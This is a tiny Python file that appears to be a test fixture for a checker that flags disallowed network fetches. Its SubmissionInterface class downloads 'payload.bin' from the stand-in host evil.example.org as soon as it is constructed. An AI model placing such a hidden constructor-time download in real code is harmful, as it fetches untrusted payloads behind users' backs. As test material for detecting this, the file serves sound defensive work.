"""Fetch from a host that is not allowed."""
# finding: weights_unavailable
# says: this host is not allowed

import gdown


class SubmissionInterface:
    def __init__(self):
        gdown.download("https://evil.example.org/payload.bin", "payload.bin", quiet=False)
